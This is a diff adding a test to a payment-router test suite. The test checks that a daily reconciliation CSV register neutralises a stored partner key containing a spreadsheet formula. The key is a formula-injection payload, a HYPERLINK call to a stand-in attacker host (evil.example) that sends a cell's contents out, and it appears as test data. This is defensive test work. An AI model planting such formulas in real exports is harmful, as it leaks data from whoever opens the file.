@@ -492,5 +492,30 @@ describe('payment-router: what billing staff see (search, timeline, totals, reco
       expect(res.status).toBe(200);
       expect(res.body.counts.missingOnOurSide).toBe(3004);
     });
+
+    it("defuses a partner's key that a spreadsheet would run as a formula (a key stored before the edge rule)", async () => {
+      const key = '=HYPERLINK("https://evil.example/?"&C2,"x")';
+      // Last, on a day of its own: planted straight into the table, as the edge no longer takes such a key.
+      const id = await plant({
+        key,
+        amount: '15000',
+        created: '2026-11-19T04:00:00Z',
+        steps: [
+          ['AWAITING_DEBIT', '2026-11-19T04:00:00Z'],
+          ['COMPLETED', '2026-11-19T04:00:01Z'],
+        ],
+      });
+      const res = await sendRaw(
+        svc.baseUrl,
+        'GET',
+        '/v1/reconciliation/days/2026-11-19/register',
+        undefined,
+        await asStaff('auditor'),
+      );
+      expect(res.status).toBe(200);
+      expect(res.body.split('\r\n')[1]).toBe(
+        `"'=HYPERLINK(""https://evil.example/?""&C2,""x"")",${id},996555000001,SOCHI,${INN},150.00,COMPLETED,2026-11-19T04:00:01.000Z`,
+      );
+    });
   });
 });
